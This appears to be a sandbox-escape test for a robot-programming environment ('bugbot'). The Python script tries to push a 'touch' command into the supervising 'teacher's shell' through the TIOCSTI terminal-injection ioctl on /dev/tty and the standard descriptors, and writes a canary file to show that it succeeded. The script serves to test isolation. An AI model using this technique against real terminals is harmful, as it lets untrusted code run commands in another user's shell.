# Terminal: push a command (and a Ctrl-C) into the teacher's shell with TIOCSTI,
# through /dev/tty and through any descriptor that is a terminal.
import fcntl
import os
import termios

from bugbot import *

connect()
pushed = 0
targets = []
try:
    targets.append(os.open("/dev/tty", os.O_RDONLY))
except OSError:
    pass
targets += [0, 1, 2]
for fd in targets:
    for ch in "touch @@CANARY_DIR@@/pwned-tty\n\x03":
        try:
            fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
            pushed += 1
        except OSError:
            pass
try:
    os.setsid()
except OSError:
    pass
drive(50, 50)
wait(1)
stop()
